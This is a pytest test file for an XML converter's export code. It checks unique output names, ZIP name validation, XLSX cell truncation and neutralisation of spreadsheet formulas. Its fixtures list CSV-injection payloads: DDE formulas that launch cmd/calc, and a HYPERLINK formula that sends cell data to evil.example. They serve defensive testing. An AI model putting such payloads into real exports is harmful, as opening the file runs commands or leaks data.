"""Exports that are safe to open and never overwrite each other (issue 10 §5): unique file names
within an export, CSV formulas neutralised unless asked otherwise, XLSX scratch kept beside the
output."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest

from ret_desktop.core.convert import ConvertOptions, convert_documents, convert_to_folder, export_tables, export_zip
from ret_desktop.core.export import (
    neutralise_formula,
    neutralise_header,
    unique_file_stems,
    write_csv,
    write_patch_log,
    write_xlsx,
    zip_file_name,
)
from ret_desktop.core.importing import take_in
from ret_desktop.core.workbook import Workbook
from ret_desktop.core.xlsx import EXCEL_MAX_CELL, excel_sheet_name
from test_xlsx import as_excel_reads


def _write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def _read_csv(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


# ---------------------------------------------------------------- 1. unique names

def test_file_stems_are_unique_ignoring_case_and_deterministic():
    names = ["A:B", "A_B", "a_b", "A_B (2)", "A?B", "CON", "x" * 200, "x" * 200 + "y", " . "]
    stems = unique_file_stems(names)
    assert stems == ["A_B", "A_B (2)", "a_b (3)", "A_B (2) (2)", "A_B (4)", "CON_", "x" * 150,
                     "x" * 150 + " (2)", "table"]
    assert len({s.casefold() for s in stems}) == len(names)
    assert unique_file_stems(names) == stems


def test_two_groups_whose_names_differ_only_in_unsafe_characters_keep_both_tables(tmp_path):
    # Folders "A:B" and "A_B" are two groups; both used to go to "in_A_B.csv", one table lost.
    _write(tmp_path / "in" / "A:B", "a.xml", "<r><rec><v>colon 1</v></rec><rec><v>colon 2</v></rec></r>")
    _write(tmp_path / "in" / "A_B", "b.xml", "<r><rec><v>under 1</v></rec><rec><v>under 2</v></rec></r>")
    out = tmp_path / "out"
    convert_to_folder([tmp_path / "in"], out, ConvertOptions(group_by="folder"), ("csv", "xlsx"), zip_name="all.zip")
    manifest = json.loads((out / "manifest.json").read_text())
    files = {t["name"]: t["files"] for t in manifest["tables"]}
    assert files == {"in/A:B": ["in_A_B.csv", "in_A_B.xlsx"], "in/A_B": ["in_A_B (2).csv", "in_A_B (2).xlsx"]}
    for name, (csv_name, xlsx_name) in files.items():
        expected = "colon" if ":" in name else "under"
        assert [row[2] for row in _read_csv(out / csv_name)[1:]] == [f"{expected} 1", f"{expected} 2"]
        sheet = openpyxl.load_workbook(out / xlsx_name).active
        assert [c.value for c in sheet["C"]][1:] == [f"{expected} 1", f"{expected} 2"]
    with zipfile.ZipFile(out / "all.zip") as archive:
        assert sorted(archive.namelist()) == sorted(f for fs in files.values() for f in fs)


def test_child_tables_differing_in_case_or_unsafe_characters_export_to_different_files(tmp_path):
    # Relational mode: x:item, x_item, Item and item each repeat, and each becomes a child table.
    items = "".join(f"<x:item>p{k}</x:item><x_item>u{k}</x_item><Item>C{k}</Item><item>c{k}</item>" for k in (1, 2))
    doc = _write(tmp_path / "in", "LIB_1.xml", f'<lib xmlns:x="urn:x"><rec><t>a</t>{items}</rec>'
                                             f'<rec><t>b</t>{items}</rec></lib>')
    report = take_in([doc], tmp_path / "extracted")
    with Workbook(tmp_path / "workbook.sqlite", scratch=True) as workbook:
        result = convert_documents(report, workbook, ConvertOptions(mode="relational"))
        children = {t.name for t in result.tables} - {"LIB"}
        assert children == {"LIB.x:item", "LIB.x_item", "LIB.Item", "LIB.item"}
        zip_path = export_zip(workbook, result.tables, tmp_path / "out" / "all.zip", ("csv", "xlsx"))
    with zipfile.ZipFile(zip_path) as archive:
        names = archive.namelist()
        assert len({n.casefold() for n in names}) == len(names) == 10
        by_table = {t.name: t.files for t in result.tables}
        for table, first in (("LIB.x:item", "p1"), ("LIB.x_item", "u1"), ("LIB.Item", "C1"), ("LIB.item", "c1")):
            rows = list(csv.reader(archive.read(by_table[table][0]).decode("utf-8").splitlines()))
            assert rows[1][-1] == first, table
    assert os.listdir(tmp_path / "out") == ["all.zip"]


@pytest.mark.parametrize("name, expected", [
    ("'quoted'", "quoted"),
    ("a[1]:b*c?d/e\\f", "a_1__b_c_d_e_f"),
    ("History", "History_"),
    ("'", "Sheet"),
    ("n" * 40, "n" * 31),
])
def test_sheet_names_follow_excels_rules(tmp_path, name, expected):
    assert excel_sheet_name(name) == expected
    write_xlsx(tmp_path / "t.xlsx", ["v"], [[[str(i)] for i in range(5)]], sheet_name=name, max_rows_per_sheet=2)
    sheets = openpyxl.load_workbook(tmp_path / "t.xlsx").sheetnames
    assert sheets[0] == expected and len(sheets) == 3
    assert all(len(s) <= 31 for s in sheets) and len({s.casefold() for s in sheets}) == 3
    assert sheets[2] == excel_sheet_name(name, " (3)")


# ---------------------------------------------------------------- 2. formula injection

# OWASP's CSV-injection examples and their relatives: each would run in a spreadsheet.
FORMULAS = [
    "=cmd|'/c calc'!A1",
    "=cmd|' /C notepad'!'A1'",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0bcmd|'/c calc'!A1",
]
NOT_FORMULAS = ["-5", "+44 20 7946 0958", "-1.5e3", "+1.5E-3", "-0.5", "-.5", "1,234.5", "-1 234,5", "1e5",
                "02", "abc", "a=b", " =1+1", "", "-", "+", "'=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_gets_a_leading_quote(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", NOT_FORMULAS)
def test_plain_numbers_and_text_stay_as_they_are(value):
    assert neutralise_formula(value) == value


def test_write_csv_neutralises_by_default_and_raw_writes_untouched(tmp_path):
    rows = [[value, str(i), "plain"] for i, value in enumerate(FORMULAS + NOT_FORMULAS)]
    rows.append(["a,=b", "=x,y", '"=q"'])  # quoted fields: only those starting with a trigger
    write_csv(tmp_path / "safe.csv", ["v", "n", "p"], [rows[:5], rows[5:]])
    write_csv(tmp_path / "raw.csv", ["v", "n", "p"], [rows], raw=True)
    safe, raw = _read_csv(tmp_path / "safe.csv"), _read_csv(tmp_path / "raw.csv")
    assert raw[1:] == rows
    assert safe[1:] == [[neutralise_formula(v) for v in row] for row in rows]
    assert safe[-1] == ["a,=b", "'=x,y", '"=q"']
    assert {row[0] for row in safe[1:] if row[0].startswith("'")} == {"'" + f for f in FORMULAS} | {"'=1+1"}


@pytest.mark.parametrize("position", [0, 1, 2])
def test_a_formula_alone_in_its_batch_is_found_in_any_field(tmp_path, position):
    # The batch's text is searched first; a formula in the first field of the first line, the only
    # one of its batch, must not slip through that search.
    for number, value in enumerate(FORMULAS):
        row = ["a", "b", "c"]
        row[position] = value
        path = tmp_path / f"{number}.csv"
        write_csv(path, ["x", "y", "z"], [[row]])
        assert _read_csv(path)[1][position] == "'" + value, repr(value)


def _convert_hostile(tmp_path):
    values = ["=cmd|'/c calc'!A1", "-5", "+44 20 7946 0958", "@SUM(A1)", "plain", "-1.5e3", "+1+1"]
    records = "".join(f"<rec><v>{v}</v><n>{i}</n></rec>" for i, v in enumerate(values * 400))
    folder = tmp_path / "in"
    doc = _write(folder, "=HYPERLINK(x).xml", f"<r>{records}</r>")
    return doc, values


@pytest.mark.parametrize("csv_raw", [False, True])
def test_the_csv_copy_of_a_conversion_neutralises_exactly_as_reading_back(tmp_path, csv_raw):
    doc, values = _convert_hostile(tmp_path)
    report = take_in([doc], tmp_path / "extracted")
    with Workbook(tmp_path / "workbook.sqlite", scratch=True) as workbook:
        workbook.keep_csv_copies(tmp_path)
        result = convert_documents(report, workbook, ConvertOptions())
        (table,) = result.tables
        copy = workbook.csv_copy(table.name)
        assert copy is not None and copy.neutralised
        assert copy.copyable(len(table.columns)) and not copy.copyable(len(table.columns), raw=True)
        (exported,) = export_tables(workbook, result.tables, tmp_path / "out", ("csv",), csv_raw=csv_raw)
        write_csv(tmp_path / "back.csv", workbook.columns(table.name), workbook.iter_batches(table.name), raw=csv_raw)
    assert exported.read_bytes() == (tmp_path / "back.csv").read_bytes()
    rows = _read_csv(exported)
    assert rows[0] == ["_file", "_record", "v", "n"]
    keep = (lambda v: v) if csv_raw else neutralise_formula
    assert [row[2] for row in rows[1:8]] == [keep(v) for v in values]
    assert rows[1][0] == ("=HYPERLINK(x).xml" if csv_raw else "'=HYPERLINK(x).xml")


def test_convert_command_neutralises_by_default_and_says_so(tmp_path):
    doc, _values = _convert_hostile(tmp_path)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "RET_DATA_DIR": str(tmp_path / "data")}
    for flag, out in (([], "safe"), (["--csv-raw"], "raw")):
        subprocess.run([sys.executable, "-m", "ret_desktop", "convert", str(doc), "--out", str(tmp_path / out),
                        "--format", "both", *flag], check=True, capture_output=True, timeout=120, env=env)
    for out, mode, first in (("safe", "neutralised", "'=cmd|'/c calc'!A1"), ("raw", "raw", "=cmd|'/c calc'!A1")):
        manifest = json.loads((tmp_path / out / "manifest.json").read_text())
        assert manifest["csv_formulas"] == mode
        (table,) = manifest["tables"]
        rows = _read_csv(tmp_path / out / table["files"][0])
        assert rows[1][2] == first and rows[2][2] == "-5" and rows[3][2] == "+44 20 7946 0958"
        # XLSX stores every value as a string, never a formula, in both modes.
        sheet = openpyxl.load_workbook(tmp_path / out / table["files"][1]).active
        cell = sheet["C2"]
        assert cell.value == "=cmd|'/c calc'!A1" and cell.data_type == "s"
        assert sheet["A2"].value == "=HYPERLINK(x).xml" and sheet["A2"].data_type == "s"


def test_the_patch_log_neutralises_edited_values(tmp_path):
    entry = SimpleNamespace(at=0.0, table="T", row_id=1, column="v", old="-5", new="=cmd|'/c calc'!A1", op="set")
    write_patch_log(tmp_path / "log.csv", [entry])
    write_patch_log(tmp_path / "raw.csv", [entry], raw=True)
    assert _read_csv(tmp_path / "log.csv")[1][3:6] == ["v", "-5", "'=cmd|'/c calc'!A1"]
    assert _read_csv(tmp_path / "raw.csv")[1][5] == "=cmd|'/c calc'!A1"


# ---------------------------------------------------------------- 3. XLSX scratch

def test_xlsx_is_streamed_into_a_part_file_beside_the_output_and_no_scratch_holds_cell_text(tmp_path, monkeypatch):
    system_temp = tmp_path / "system-temp"
    system_temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_temp))  # what TMPDIR sets for this process
    out = tmp_path / "out"
    secret = "cell text that must not leave the output folder"
    seen: dict[str, list[Path]] = {}

    def batches():
        yield [[f"{secret} {i}"] for i in range(500)]
        yield [[f"{secret} {i}"] for i in range(500, 60_000)]  # more than the writer holds before writing
        seen["system temp"] = list(system_temp.rglob("*"))
        seen["files"] = [p for p in tmp_path.rglob("*") if p.is_file()]
        seen["sizes"] = [p.stat().st_size for p in seen["files"]]
        seen["holding the text"] = [p for p in seen["files"] if secret.encode() in p.read_bytes()]
        yield [["last"]]

    assert write_xlsx(out / "t.xlsx", ["v"], batches()).rows == 60_001
    assert seen["system temp"] == [] and seen["holding the text"] == []
    (part,) = seen["files"]  # the file being written (compressed, so the text is not seen), beside the output
    assert part.parent == out and part.name != "t.xlsx" and seen["sizes"][0] > 0
    assert list(system_temp.iterdir()) == [] and [p.name for p in out.iterdir()] == ["t.xlsx"]
    assert openpyxl.load_workbook(out / "t.xlsx").active["A60001"].value == f"{secret} 59999"


def test_convert_to_xlsx_leaves_nothing_in_the_system_temp_folder(tmp_path):
    doc, _values = _convert_hostile(tmp_path)
    system_temp = tmp_path / "system-temp"
    system_temp.mkdir()
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "RET_DATA_DIR": str(tmp_path / "data"),
           "TMPDIR": str(system_temp)}
    subprocess.run([sys.executable, "-m", "ret_desktop", "convert", str(doc), "--out", str(tmp_path / "out"),
                    "--format", "xlsx", "--zip", "all.zip"], check=True, capture_output=True, timeout=120, env=env)
    assert list(system_temp.iterdir()) == []
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["MISC.xlsx", "all.zip", "manifest.json"]


# ---------------------------------------------------------------- 4. the ZIP's name

def _cli(tmp_path: Path, *args) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "RET_DATA_DIR": str(tmp_path / "data")}
    return subprocess.run([sys.executable, "-m", "ret_desktop", *map(str, args)], capture_output=True, text=True,
                          timeout=120, env=env)


@pytest.mark.parametrize("name, expected", [("all", "all.zip"), ("T.csv", "T.csv.zip"), ("Backup.ZIP", "Backup.ZIP"),
                                            ("manifest.json", "manifest.json.zip"), ("é ü.zip", "é ü.zip")])
def test_a_zip_name_is_a_plain_file_name_ending_in_zip(name, expected):
    assert zip_file_name(name) == expected


@pytest.mark.parametrize("name", ["", " ", ".", "..", "a/b.zip", "../up.zip", "a\\b", "/abs.zip", "x:y", "nul\x00",
                                  "CON", "nul.zip", "x" * 252])
def test_a_zip_name_that_is_no_plain_file_name_is_refused_in_one_line(name):
    with pytest.raises(ValueError) as error:
        zip_file_name(name)
    assert "\n" not in str(error.value)


@pytest.mark.parametrize("name, zip_file", [("T.csv", "T.csv.zip"), ("manifest.json", "manifest.json.zip"),
                                            ("T", "T.zip")])
def test_the_zip_never_replaces_a_tables_file_or_the_manifest(tmp_path, name, zip_file):
    doc = _write(tmp_path, "T_1.xml", "<r><i><a>1</a></i><i><a>2</a></i></r>")
    out = tmp_path / "out"
    result = _cli(tmp_path, "convert", doc, "--out", out, "--zip", name)
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in out.iterdir()) == sorted(["T.csv", "manifest.json", zip_file])
    assert _read_csv(out / "T.csv") == [["_file", "_record", "a"], ["T_1.xml", "1", "1"], ["T_1.xml", "2", "2"]]
    assert json.loads((out / "manifest.json").read_text())["tables"][0]["files"] == ["T.csv"]
    with zipfile.ZipFile(out / zip_file) as archive:
        assert archive.namelist() == ["T.csv"] and archive.read("T.csv") == (out / "T.csv").read_bytes()


@pytest.mark.parametrize("name", [".", "..", "sub/all.zip", ""])
def test_a_bad_zip_name_is_refused_before_anything_is_made(tmp_path, name):
    doc = _write(tmp_path, "T_1.xml", "<r><i><a>1</a></i></r>")
    result = _cli(tmp_path, "convert", doc, "--out", tmp_path / "out", "--zip", name)
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.startswith("ret-desktop: error: --zip: ") and len(result.stderr.splitlines()) == 1
    assert not (tmp_path / "out").exists()


def test_a_write_error_names_the_output_folder_not_its_scratch(tmp_path):
    # A folder where the ZIP goes: the rename fails inside the scratch folder (IsADirectoryError).
    doc = _write(tmp_path, "T_1.xml", "<r><i><a>1</a></i></r>")
    out = tmp_path / "out"
    (out / "all.zip").mkdir(parents=True)
    result = _cli(tmp_path, "convert", doc, "--out", out, "--zip", "all")
    assert result.returncode == 2 and len(result.stderr.splitlines()) == 1, result.stderr
    assert ".ret-" not in result.stderr and "Errno" not in result.stderr and str(out) in result.stderr
    assert sorted(p.name for p in out.iterdir()) == ["all.zip"]  # as it was: nothing moved in, no scratch left


def test_a_failed_convert_removes_the_folder_it_made_and_only_that(tmp_path):
    doc = _write(tmp_path, "T_1.xml", "<r><i><a>1</a></i></r>")

    def interrupted(done, total, current):  # Ctrl-C during the conversion
        raise KeyboardInterrupt

    made = tmp_path / "new" / "out"
    with pytest.raises(KeyboardInterrupt):
        convert_to_folder([doc], made, on_progress=interrupted)
    assert not made.exists() and (tmp_path / "new").is_dir()  # only the folder DIR itself
    kept = tmp_path / "kept"
    kept.mkdir()
    with pytest.raises(KeyboardInterrupt):
        convert_to_folder([doc], kept, on_progress=interrupted)
    assert kept.is_dir() and list(kept.iterdir()) == []  # there before the run: stays
    convert_to_folder([doc], made)
    (made / "notes.txt").write_text("mine")
    with pytest.raises(KeyboardInterrupt):
        convert_to_folder([doc], made, on_progress=interrupted)
    assert sorted(p.name for p in made.iterdir()) == ["T.csv", "manifest.json", "notes.txt"]


# ---------------------------------------------------------------- 5. XLSX cells cut, and said so

def test_write_xlsx_counts_the_cells_it_cuts(tmp_path):
    long = "A" * (EXCEL_MAX_CELL + 3) + "END"
    exactly = "B" * EXCEL_MAX_CELL
    escaped = "\x01" * 10 + "C" * EXCEL_MAX_CELL  # a control character counts as one, though written as _x0001_
    rows = [[long, "x"], [exactly, long], [escaped, ""]]
    written = write_xlsx(tmp_path / "t.xlsx", ["a", "b"], [rows], max_rows_per_sheet=2)
    assert written == (3, 3)
    sheets = openpyxl.load_workbook(tmp_path / "t.xlsx").worksheets
    assert sheets[0]["A2"].value == long[:EXCEL_MAX_CELL] and sheets[0]["A3"].value == exactly
    assert as_excel_reads(sheets[1]["A2"].value) == escaped[:EXCEL_MAX_CELL]


def test_convert_reports_the_cut_cells_in_the_manifest_and_on_stderr(tmp_path):
    long = "A" * 40_000 + "END"
    doc = _write(tmp_path, "longval.xml", f"<r><i><a>{long}</a><b>{long}</b></i><i><a>2</a></i><i><a>{long}</a></i></r>")
    out = tmp_path / "out"
    result = _cli(tmp_path, "convert", doc, "--out", out, "--format", "both")
    assert result.returncode == 0, result.stderr
    assert result.stderr == ("  warning: LONGVAL: 3 values longer than an Excel cell holds are cut in LONGVAL.xlsx "
                             f"({EXCEL_MAX_CELL:,} characters kept)\n")
    (table,) = json.loads((out / "manifest.json").read_text())["tables"]
    assert table["xlsx_cells_cut"] == 3
    assert _read_csv(out / "LONGVAL.csv")[1][2] == long  # CSV keeps every character
    csv_only = _cli(tmp_path, "convert", doc, "--out", tmp_path / "csv")
    assert csv_only.stderr == ""
    assert "xlsx_cells_cut" not in json.loads((tmp_path / "csv" / "manifest.json").read_text())["tables"][0]


def test_export_tables_counts_afresh_for_each_export(tmp_path):
    doc = _write(tmp_path, "in.xml", f"<r><i><a>{'A' * 33_000}</a></i></r>")
    report = take_in([doc], tmp_path / "extracted")
    with Workbook(tmp_path / "workbook.sqlite", scratch=True) as workbook:
        result = convert_documents(report, workbook, ConvertOptions())
        (table,) = result.tables
        export_tables(workbook, result.tables, tmp_path / "x1", ("xlsx",))
        assert table.xlsx_cells_cut == 1
        export_zip(workbook, result.tables, tmp_path / "x2" / "all.zip", ("xlsx", "csv"))
        assert table.xlsx_cells_cut == 1
        workbook.set_cells(table.name, [(workbook.row_ids(table.name)[0], 2, "short")])
        export_tables(workbook, result.tables, tmp_path / "x3", ("xlsx",))
        assert table.xlsx_cells_cut == 0


# ---------------------------------------------------------------- 6. headers

FULL_WIDTH_FORMULA = "＝ＳＵＭ（１＋１）"  # a legal XML name


@pytest.mark.parametrize("title, expected", [
    (FULL_WIDTH_FORMULA, "'" + FULL_WIDTH_FORMULA), ("＠ＳＵＭ（１）", "'＠ＳＵＭ（１）"),
    ("@ＳＵＭ（１＋１）", "'@ＳＵＭ（１＋１）"), ("=cmd|' /c calc'!A1", "'=cmd|' /c calc'!A1"),  # renamed by hand
    ("@type", "@type"), ("@xml:lang", "@xml:lang"), ("_file", "_file"), ("x/@＠ｃｍｄ", "x/@＠ｃｍｄ"),
    ("-5", "-5"),
])
def test_a_header_gets_the_value_rule_but_an_ascii_attribute_stays(title, expected):
    assert neutralise_header(title) == expected


@pytest.mark.parametrize("csv_raw", [False, True])
def test_headers_are_neutralised_on_both_csv_paths(tmp_path, csv_raw):
    doc = _write(tmp_path, "fw.xml", f"<r><i id='1'><{FULL_WIDTH_FORMULA}>v</{FULL_WIDTH_FORMULA}>"
                                     f"<b>{FULL_WIDTH_FORMULA}</b></i><i><b>3</b></i></r>")
    report = take_in([doc], tmp_path / "extracted")
    with Workbook(tmp_path / "workbook.sqlite", scratch=True) as workbook:
        workbook.keep_csv_copies(tmp_path)
        result = convert_documents(report, workbook, ConvertOptions())
        (table,) = result.tables
        columns = workbook.columns(table.name)
        assert workbook.csv_copy(table.name).copyable(len(columns))
        (copied,) = export_tables(workbook, result.tables, tmp_path / "copied", ("csv",), csv_raw=csv_raw)
        read_back = write_csv(tmp_path / "read.csv", columns, workbook.iter_batches(table.name), raw=csv_raw)
    header = ["_file", "_record", "@id", FULL_WIDTH_FORMULA if csv_raw else "'" + FULL_WIDTH_FORMULA, "b"]
    assert read_back == 2 and _read_csv(tmp_path / "read.csv")[0] == header
    if not csv_raw:  # a raw export reads back: the copy holds a neutralised value
        assert copied.read_bytes() == (tmp_path / "read.csv").read_bytes()
    assert _read_csv(copied)[0] == header
